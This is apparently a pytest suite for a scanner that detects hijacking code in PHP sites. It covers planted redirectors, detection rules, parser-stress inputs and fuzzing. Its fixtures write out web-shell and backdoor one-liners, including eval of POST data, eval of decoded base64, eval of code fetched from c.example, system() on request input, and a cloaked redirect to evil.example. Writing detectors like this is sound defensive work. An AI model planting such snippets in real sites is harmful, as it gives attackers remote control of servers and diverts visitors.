"""PHP is read by what it does: planted redirectors are found, honest look-alikes are not."""

from pathlib import Path
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from unhijack.core.finding import Kind
from unhijack.parse.plain.marks import Mark
from unhijack.parse.server.php import php_marks
from unhijack.parse.server.php.flow import facts_of
from unhijack.parse.server.php.tree import MOST_BYTES, read_code
from unhijack.parse.server.place import Place

GOLDEN = Path(__file__).parent / "golden" / "php"
PLANTED = sorted((GOLDEN / "planted").glob("*.txt"))
HONEST = sorted((GOLDEN / "honest").glob("*.txt"))
FOUND = 0.5
HERE = Place("index.php")


def found(content: bytes, place: Place = HERE) -> list[Mark]:
    """Marks that are findings by themselves."""
    return [mark for mark in php_marks(content, place) if mark.confidence >= FOUND]


@pytest.mark.parametrize("specimen", PLANTED, ids=lambda path: path.stem)
def test_planted_code_is_found(specimen: Path) -> None:
    content = specimen.read_bytes()
    marks = found(content)
    assert marks
    for mark in marks:
        assert mark.kind in set(Kind)
        assert mark.rule.startswith("php-")
        assert 0 <= mark.start < mark.end <= len(content)


@pytest.mark.parametrize("specimen", HONEST, ids=lambda path: path.stem)
def test_honest_look_alikes_are_left_alone(specimen: Path) -> None:
    assert found(specimen.read_bytes()) == []


def test_there_are_as_many_kinds_of_both_as_were_promised() -> None:
    assert len(PLANTED) >= 40
    assert len(HONEST) >= 40


def test_specimens_lead_nowhere() -> None:
    """Only reserved names, and the few well-known hosts that honest code sends people to."""
    known = {"www.w3.org", "apps.apple.com", "play.google.com", "browsehappy.com"}
    known |= {"www.sitemaps.org", "www.facebook.com", "twitter.com"}
    for specimen in (*PLANTED, *HONEST):
        code = read_code(specimen.read_bytes())
        assert code is not None
        for fact in facts_of(code):
            for host in fact.value.hosts:
                assert host.endswith((".example", ".test")) or host in known, specimen.stem


def test_the_site_itself_is_not_elsewhere() -> None:
    code = (
        b"<?php if (strpos($_SERVER['HTTP_REFERER'], 'google') !== false)"
        b" { header('Location: http://shop.parish.example/'); exit; }"
    )
    assert found(code)
    assert not found(code, Place("index.php", own_hosts=frozenset({"parish.example"})))


def test_the_reason_names_the_tests_and_nothing_of_the_file() -> None:
    code = (
        b"<?php if (!isset($_COOKIE['\x1b[31m']) && preg_match('/google/', $_SERVER['HTTP_REFERER']))"
        b" { setcookie('\x1b[31m', 1); header('Location: http://evil.example/\x1b[31m'); exit; }"
    )
    (mark,) = found(code)
    assert mark.rule == "php-redirect-tested"
    assert mark.reason == (
        "It sends visitors to another site, depending on the referrer and a cookie"
    )


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (b"<?php eval(base64_decode('ZWNobyAxOw=='));", "php-run-decoded"),
        (b"<?php @eval($_POST['x']);", "php-run-request"),
        (b"<? $_GET['f']($_POST['x']);", "php-call-request"),
        (b"<script language=\"php\">@eval($_POST['x']);</script>", "php-run-request"),
        (b"<?php $f = 'as' . 'sert'; $f($_POST['x']);", "php-run-request"),
        (b"<?php preg_replace('/.*/e', $_POST['x'], '');", "php-run-request"),
        (b"<?php array_map('assert', array($_POST['x']));", "php-run-request"),
        (b"<?php eval(file_get_contents('http://c.example/p'));", "php-run-fetched"),
        (
            b'<?php @include "\\x2f\\x74\\x6d\\x70\\x2f\\x61\\x2e\\x69\\x63\\x6f";',
            "php-include-hidden",
        ),
        (b"<?php file_put_contents('a.php', $_POST['x']);", "php-write-request"),
        (b"$a = $_REQUEST['c']; system($a);", "php-command-request"),
    ],
)
def test_what_a_stranger_sends_or_hides_does_not_run_unseen(code: bytes, rule: str) -> None:
    assert rule in {mark.rule for mark in found(code)}


def test_a_layer_without_a_tag_is_read_as_code() -> None:
    layer = b'if(preg_match("/google/",$_SERVER["HTTP_REFERER"])){header("Location: http://l.example/");}'
    assert found(layer)


def test_a_file_of_nothing_else_is_planted_whole() -> None:
    code = b"<?php\n$u = base64_decode('aHR0cDovL2EuZXhhbXBsZS8=');\nheader('Location: ' . $u);\n"
    assert [mark.whole for mark in found(code)] == [True]


def test_what_is_too_large_is_not_read() -> None:
    assert php_marks(b"<?php eval($_POST[1]);" + b" " * MOST_BYTES, HERE) == []


@pytest.mark.parametrize(
    "code",
    [
        b"<?php " + b"if(1){" * 20_000 + b"eval($_POST['x']);" + b"}" * 20_000,
        b"<?php $a = " + b"(" * 20_000 + b"$_GET['a']" + b")" * 20_000 + b";",
        b"<?php $a = 'a'" + b" . 'b'" * 20_000 + b"; header($a);",
        b"<?php if (1) {}" + b" elseif ($_GET['a']) {}" * 10_000,
        b"<?php if (1) {}" + b" else if ($_GET['a']) {}" * 3_000,
        b"<?php " + b"$a .= $_GET['b'] . 'http://a.example/';" * 10_000,
        b"<?php " + b"function f(){ f(g()); } " * 5_000,
        b"<?php $a[0]=" * 5_000,
        b"<?php ?>" * 20_000,
        b"<?php /*abc123*/ " * 10_000,
        b"<? " * 50_000,
        b"<script>" * 20_000 + b"<?php eval($_POST[1]);",
        b"<?php '" + b"\\" * 200_000,
        b'<?php "' + b"$a[" * 50_000,
        b"<?php " + b"a b ( c " * 200_000,
        b"<?php " + b"a b ( c ); " * 100_000,
        b"<?php $a = '" + b":( " * 300_000 + b"';",
        b"PK\x03\x04" + bytes(range(256)) * 2_000 + b"<?php",
    ],
    ids=range(18),
)
def test_hostile_shapes_cost_seconds_at_most(code: bytes) -> None:
    begun = process_time()
    marks = php_marks(code, HERE)
    assert len(marks) <= 50
    assert process_time() - begun < 6  # a slow machine; 2 on an ordinary one


_WORDS = st.sampled_from(
    [
        *(
            b"<?php ",
            b"<?=",
            b"?>",
            b"if (",
            b") {",
            b"}",
            b";",
            b"else ",
            b"$a",
            b"$$a",
            b"${'a'}",
        ),
        *(b"header(", b"'Location: http://a.example/'", b")", b"$_SERVER['HTTP_REFERER']", b" . "),
        *(b"eval(", b"base64_decode(", b'"\\x41$a[0]{$b->c}"', b"function f($x) {", b"return "),
        *(
            b"foreach ($a as $k => $v)",
            b"array(",
            b"[",
            b"]",
            b"=>",
            b"=",
            b"/*ab12*/",
            b"\n",
            b"<<<A\n",
        ),
        *(b"class C {", b"new $a(", b"->b", b"::c", b"implode(", b"explode(", b"chr(", b"^", b"~"),
        *(
            b"goto a;",
            b"a:",
            b"switch (",
            b"case 1:",
            b"include ",
            b"echo ",
            b"substr(",
            b"1",
            b",",
        ),
    ]
)


@given(st.lists(_WORDS, max_size=60).map(b"".join) | st.binary(max_size=400))
@settings(max_examples=300, deadline=None)
def test_no_bytes_raise_and_every_mark_lies_in_the_file(content: bytes) -> None:
    for mark in php_marks(content, HERE):
        assert 0 <= mark.start <= mark.end <= len(content)
        if mark.cut is not None:
            assert 0 <= mark.cut[0] < mark.cut[1] <= len(content)
